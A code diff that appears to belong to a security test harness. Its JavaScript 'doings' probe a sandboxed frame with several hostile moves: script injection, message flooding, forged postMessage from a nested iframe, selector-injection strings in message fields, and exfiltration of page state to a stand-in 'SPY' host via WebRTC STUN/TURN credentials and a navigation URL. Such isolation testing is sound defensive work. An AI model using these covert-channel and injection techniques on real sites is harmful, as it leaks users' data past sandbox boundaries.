@@ -85,17 +85,19 @@ const doings = {
   attack() { document.body.append(Object.assign(document.createElement("script"), { src: "attack.js" })); },
   flood() { for (let n = 0; n < 20000; n++) tilt(n % 60); },
   patter() {
-    let n = 0;
-    const timer = setInterval(() => { tilt(n % 60); if (++n === 60) clearInterval(timer); }, 10);
+    for (let n = 0; n < 60; n++) tilt(n);
+    setTimeout(() => say({ type: "set", control: "heard again", value: 0 }), 4000);
   },
   greedy() {
     const measure = () => say({ type: "measure", instrument: "timer" });
+    addEventListener("message", ({ data }) => { if (data.reason) console.log(data.reason); });
     setTimeout(() => { for (let n = 0; n < 10; n++) measure(); }, 7000);
   },
   forge() {
     const other = document.createElement("iframe");
     other.srcdoc = `<script>
       top.postMessage({ tetrad: 1, type: "set", control: "alpha", value: 55 }, "*");<` + `/script>`;
+    other.onload = () => { document.body.dataset.forged = "yes"; };
     document.body.append(other);
   },
   shapes() {
@@ -106,16 +108,21 @@ const doings = {
     say({ type: "set", control: '"],form,[x="', value: 1 });
     say({ type: "measure", instrument: '"],[formaction="' });
     say({ type: "submit", note: "x".repeat(1e6) });
-    document.body.dataset.said = "yes";
+    say({ type: "submit", note: "this is the last" });
   },
   async call() {
     const host = "SPY".replace("http://", ""), rel = "preconnect";
     document.head.append(Object.assign(document.createElement("link"), { rel, href: "SPY" }));
     const turn = { urls: `turn:${host}?transport=tcp`, username: "state", credential: "state" };
-    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }, turn] });
-    call.createDataChannel("out");
-    await call.setLocalDescription();
-    document.body.dataset.called = "yes";
+    try {
+      const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }, turn] });
+      call.createDataChannel("out");
+      const gathered = new Promise((done) => {
+        call.onicegatheringstatechange = () => { if (call.iceGatheringState === "complete") done(); };
+      });
+      await call.setLocalDescription();
+      await gathered;
+    } finally { document.body.dataset.called = "yes"; }
   },
   leave() { location.href = "SPY/left?" + document.body.dataset.state; },
 };
